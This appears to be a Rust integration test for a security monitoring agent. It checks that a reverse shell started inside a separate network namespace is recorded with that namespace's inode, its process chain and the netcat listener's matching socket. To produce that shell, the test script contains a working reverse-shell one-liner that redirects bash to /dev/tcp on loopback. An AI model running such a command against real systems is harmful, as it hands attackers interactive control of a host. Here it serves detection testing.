//! A reverse shell inside another network namespace, on that namespace's 127.0.0.1: the
//! agent must find it with that namespace's inode, not the host's. Needs root.

mod agent_support;
use agent_support::*;
use std::path::Path;
use std::process::Command;

struct Netns(String);

impl Netns {
    fn add() -> Netns {
        let name = format!("ssag-{}", std::process::id());
        let ok = |c: &mut Command| assert!(c.status().expect("run ip").success(), "{c:?} failed");
        let _ = Command::new("ip").args(["netns", "del", &name]).status();
        ok(Command::new("ip").args(["netns", "add", &name]));
        let ns = Netns(name);
        ok(Command::new("ip").args(["-n", &ns.0, "link", "set", "lo", "up"]));
        ns
    }
}

impl Drop for Netns {
    fn drop(&mut self) {
        let _ = Command::new("ip").args(["netns", "del", &self.0]).status();
    }
}

#[test]
fn shell_in_other_netns_carries_its_inode() {
    if !privileged() {
        return;
    }
    require_tool("ip", "iproute2");
    require_tool("nc.traditional", "netcat-traditional");
    let ns = Netns::add();
    let inode = netns_inode(&Path::new("/run/netns").join(&ns.0));
    let host = netns_inode(Path::new("/proc/self/ns/net"));
    assert_ne!(inode, host);
    // The same port is free in a fresh namespace; it clashes with nothing on the host.
    let port = 40000 + (std::process::id() % 20000) as u16;
    let script = format!(
        "nc.traditional -l -p {port} -s 127.0.0.1 & for i in $(seq 50); do \
         bash --norc -i >& /dev/tcp/127.0.0.1/{port} 0>&1 && break; sleep 0.1; done & wait"
    );
    let g = Group::spawn(Command::new("ip").args(["netns", "exec", &ns.0, "bash", "-c", &script]));
    let r = wait_for_record(15, |r| {
        r.network.netns == inode
            && r.destination.port == port
            && r.socket.state == "ESTABLISHED"
            && r.process.as_ref().is_some_and(|p| p.name == "bash" && p.args == ["bash", "--norc", "-i"])
    });
    let p = r.process.unwrap();
    assert!(p.std_sockets.all());
    assert!(r.source.ip.is_loopback() && r.destination.ip.is_loopback());
    // Its chain leads back through the loop's subshell to the `ip netns exec` wrapper.
    assert!(p.ancestors.iter().any(|a| a.pid == g.pid()), "{:?}", p.ancestors);
    // The listener's accepted end is in the same namespace, held by nc.
    let recs = agent_once(&[]);
    assert!(recs.iter().any(|x| x.network.netns == inode
        && x.source.port == port
        && x.destination.port == r.source.port
        && x.socket.state == "ESTABLISHED"
        && x.process.as_ref().is_some_and(|p| p.name == "nc.traditional")));
    // Nothing of it leaks into the host namespace.
    assert!(!recs.iter().any(|x| x.network.netns == host && x.socket.inode == r.socket.inode));
}
